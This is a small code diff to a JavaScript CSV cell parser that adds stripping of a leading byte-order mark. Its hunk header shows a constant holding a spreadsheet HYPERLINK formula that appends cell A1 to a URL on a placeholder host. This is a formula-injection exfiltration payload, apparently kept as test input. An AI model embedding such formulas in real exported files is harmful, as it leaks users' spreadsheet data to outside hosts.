@@ -147,7 +147,7 @@ const FORMULA = `=HYPERLINK("https://elsewhere.invalid/?"&A1,"x") \u0000\u0001\u
 /** The cells of a table in CSV. */
 function cells(csv) {
   const rows = [];
-  for (const [, quoted, plain] of csv.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) rows.push(quoted?.replaceAll('""', '"') ?? plain);
+  for (const [, quoted, plain] of csv.replace(/^\uFEFF/, "").matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) rows.push(quoted?.replaceAll('""', '"') ?? plain);
   return rows;
 }
 
